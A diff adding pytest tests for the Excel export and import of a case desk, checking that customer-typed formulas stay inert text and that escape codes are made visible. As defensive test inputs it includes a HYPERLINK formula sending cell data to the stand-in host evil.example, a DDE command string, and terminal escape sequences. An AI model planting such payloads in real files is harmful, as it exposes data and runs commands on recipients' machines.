@@ -12,6 +12,7 @@ from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 
+import openpyxl
 import pytest
 from sqlalchemy import create_engine, event, func, make_url, select, text
 from sqlalchemy.exc import DataError
@@ -559,3 +560,81 @@ def test_csv_cells_a_spreadsheet_would_run_are_neutralised_and_import_undoes_it(
     report = import_cases(twin, path, "ag")
     assert report == ImportReport(8, 0, [])
     assert jsonl(twin) == jsonl(source)
+
+
+# -- Excel (issue 17) ----------------------------------------------------------------------------
+
+
+def test_an_excel_export_holds_text_as_text_and_import_reads_it_back(
+    source: Desk, twin: Desk, tmp_path: Path
+) -> None:
+    """Numbers are numbers, times are dates; what customers typed is text in every cell (never a
+    formula), and importing the workbook gives the same cases."""
+    fill(source)
+    register(source, phone="13700137000", customer_name='=HYPERLINK("http://evil.example/?"&A1,"click")',
+             description="@SUM(1+1)*cmd|' /C calc'!A0", order_no="+1+1", batch="-B7")
+    path = tmp_path / "cases.xlsx"
+    assert transfer.export_xlsx(source, path) == 5
+
+    book = openpyxl.load_workbook(path)
+    sheet = book.active
+    assert sheet.freeze_panes == "A2" and [c.value for c in sheet[1]] == list(COLUMNS)
+    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None]
+    assert {c.data_type for c in cells} <= {"s", "n", "b", "d"}  # no "f": nothing runs
+    assert '=HYPERLINK("http://evil.example/?"&A1,"click")' in [c.value for c in cells]
+    registered = sheet.cell(row=2, column=COLUMNS.index("registered_at") + 1).value
+    assert isinstance(registered, datetime)
+    assert sheet.cell(row=4, column=COLUMNS.index("purchase_date") + 1).value == datetime(2024, 5, 1)
+
+    report = import_cases(twin, path, "ag")
+    assert report == ImportReport(5, 0, [])
+    assert stored(twin) == stored(source)
+    # Excel keeps times to the millisecond; the import puts them back in UTC.
+    for imported, exported in zip(jsonl(twin), jsonl(source), strict=True):
+        gap = datetime.fromisoformat(imported["registered_at"]) - datetime.fromisoformat(exported["registered_at"])
+        assert abs(gap.total_seconds()) < 0.001
+        assert imported["purchase_date"] == exported["purchase_date"]
+
+
+def test_escape_codes_reach_the_workbook_as_pictures(source: Desk, tmp_path: Path) -> None:
+    register(source, customer_name="李\x1b[2J\x1b]0;pwned\x07雷")
+    path = tmp_path / "cases.xlsx"
+    transfer.export_xlsx(source, path)
+    names = [row[COLUMNS.index("customer_name")] for row in openpyxl.load_workbook(path).active.iter_rows(
+        min_row=2, values_only=True)]
+    assert names == ["李␛[2J␛]0;pwned␇雷"]
+
+
+def test_an_export_that_cannot_be_completed_leaves_no_workbook(
+    source: Desk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """More cases than a sheet holds (here a sheet of 3 rows): refused in words, and neither the
+    workbook nor its part is left behind."""
+    fill(source)
+    monkeypatch.setattr(transfer, "MAX_ROWS", 3)
+    path = tmp_path / "cases.xlsx"
+    with pytest.raises(DeskError) as refused:
+        transfer.export_xlsx(source, path)
+    assert refused.value.code == "too_many_rows"
+    assert list(tmp_path.glob("*.xlsx*")) == [] and list(tmp_path.glob(".*partial")) == []
+
+
+def test_a_file_that_is_no_workbook_is_one_bad_row(source: Desk, tmp_path: Path) -> None:
+    path = write(tmp_path / "cases.xlsx", "number,description\n")
+    report = import_cases(source, path, "ag")
+    assert report.imported == 0 and report.bad == [(1, "not an Excel workbook (.xlsx), or a damaged one")]
+
+
+def test_a_workbook_made_by_hand_is_imported_with_numbers_taken_as_text(source: Desk, tmp_path: Path) -> None:
+    """A supervisor's own sheet: the phone typed as a number, the purchase date as a date."""
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet.append(["phone", "customer_name", "description", "purchase_date"])
+    sheet.append([13800138000, "李雷", "壶盖漏水", datetime(2026, 3, 1)])
+    sheet.append([None, None, None, None])  # an empty row is no case
+    sheet.append(["12", "王芳", "", None])
+    path = tmp_path / "own.xlsx"
+    book.save(path)
+    report = import_cases(source, path, "ag", region="CN")
+    assert report.imported == 1 and [line for line, _ in report.bad] == [4]
+    assert stored(source)[0][2] == "+8613800138000"
